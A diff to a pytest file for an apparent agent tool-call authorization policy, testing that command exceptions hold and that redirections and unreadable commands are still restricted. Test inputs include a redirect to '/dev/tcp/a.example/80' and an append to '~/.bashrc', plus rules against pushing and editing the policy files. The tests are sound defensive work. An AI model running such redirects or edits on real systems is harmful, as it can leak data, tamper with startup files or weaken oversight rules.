@@ -7,12 +7,11 @@ import pytest
 from permitry.config.load import load_policy
 from permitry.core.call import ToolCall
 from permitry.core.context import AuthContext
-from permitry.core.decision import Decision, Verdict
+from permitry.core.decision import Verdict
 from permitry.core.policy import AuthorizationPolicy
+from tests.whole_calls import EVERYTHING, PUSH, all_but, decide
 
 ALLOW, CONFIRM, BLOCK = Verdict.ALLOW, Verdict.CONFIRM, Verdict.BLOCK
-EVERYTHING = 'schema = 1\n[[rule]]\nid = "all"\neffect = "allow"\ntools = ["*"]\n'
-PUSH = '[[rule]]\nid = "no-push"\neffect = "block"\nwhen.command = "git push *"\nreason = "publishing"\n'
 OWN = (
     '[[rule]]\nid = "own"\neffect = "block"\nreason = "tampering"\nmessage = "Leave the rules alone."\n'
     'when.path = ["/**/.permitry/**", "~/.config/permitry/**"]\n'
@@ -22,14 +21,7 @@ OWN = (
 @pytest.fixture(scope="module")
 def policy(tmp_path_factory: pytest.TempPathFactory) -> AuthorizationPolicy:
     """Return a policy that allows everything but what two restrictions block."""
-    rules = tmp_path_factory.mktemp("rules") / "rules.toml"
-    rules.write_text(EVERYTHING + PUSH + OWN, encoding="utf-8")
-    return load_policy(rules)
-
-
-def decide(policy: AuthorizationPolicy, text: str) -> Decision:
-    """Return the decision about a shell command in a workspace."""
-    return policy.decide(ToolCall("run_shell", {"command": text}), AuthContext(workspace="/w"))
+    return all_but(tmp_path_factory.mktemp("rules"), f'{PUSH}reason = "publishing"\n{OWN}')
 
 
 @pytest.mark.parametrize(
@@ -153,15 +145,13 @@ def test_a_guess_without_a_reason_is_none(policy: AuthorizationPolicy, text: str
 
 
 @pytest.fixture(params=["confirm", "block"])
-def all_but(request: pytest.FixtureRequest, tmp_path: Path) -> tuple[AuthorizationPolicy, Verdict]:
+def all_but_few(request: pytest.FixtureRequest, tmp_path: Path) -> tuple[AuthorizationPolicy, Verdict]:
     """Return a policy that restricts every command but a few, and its verdict."""
-    rules = tmp_path / "rules.toml"
     rule = (
         f'[[rule]]\nid = "rest"\neffect = "{request.param}"\nwhen.command = "*"\n'
         'unless.command = ["ls *", "git -C *", "git status *", "make test"]\n'
     )
-    rules.write_text(EVERYTHING + rule, encoding="utf-8")
-    return load_policy(rules), Verdict(request.param)
+    return all_but(tmp_path, rule), Verdict(request.param)
 
 
 @pytest.mark.parametrize(
@@ -172,9 +162,9 @@ def all_but(request: pytest.FixtureRequest, tmp_path: Path) -> tuple[Authorizati
         "ls > /dev/null",
     ],
 )  # fmt: skip
-def test_an_exception_of_commands_lifts(all_but: tuple[AuthorizationPolicy, Verdict], text: str) -> None:
+def test_an_exception_of_commands_lifts(all_but_few: tuple[AuthorizationPolicy, Verdict], text: str) -> None:
     """Everything but a few commands can be restricted; pipelines and wrappers are seen through."""
-    assert decide(all_but[0], text).verdict is ALLOW
+    assert decide(all_but_few[0], text).verdict is ALLOW
 
 
 @pytest.mark.parametrize(
@@ -185,16 +175,18 @@ def test_an_exception_of_commands_lifts(all_but: tuple[AuthorizationPolicy, Verd
         "ls > f", "ls >> ~/.bashrc", "ls > /dev/tcp/a.example/80", "{ ls; } > f", "ls | ls 2> f",
     ],
 )  # fmt: skip
-def test_one_command_that_is_no_exception_is_enough(all_but: tuple[AuthorizationPolicy, Verdict], text: str) -> None:
+def test_one_command_that_is_no_exception_is_enough(
+    all_but_few: tuple[AuthorizationPolicy, Verdict], text: str
+) -> None:
     """Whatever else the call runs."""
-    decision = decide(all_but[0], text)
-    assert (decision.verdict, decision.rule_id) == (all_but[1], "rest")
+    decision = decide(all_but_few[0], text)
+    assert (decision.verdict, decision.rule_id) == (all_but_few[1], "rest")
 
 
 @pytest.mark.parametrize("text", ["ls $x", 'ls "$(date)"', "make test &&", "ls <(ls)", "bash script", "eval ls"])
-def test_what_cannot_be_read_is_no_exception(all_but: tuple[AuthorizationPolicy, Verdict], text: str) -> None:
+def test_what_cannot_be_read_is_no_exception(all_but_few: tuple[AuthorizationPolicy, Verdict], text: str) -> None:
     """It asks at least, or leads to what the rule says where something else surely runs."""
-    assert decide(all_but[0], text).verdict in (CONFIRM, all_but[1])
+    assert decide(all_but_few[0], text).verdict in (CONFIRM, all_but_few[1])
 
 
 # Addresses -------------------------------------------------------------------------------------------------------
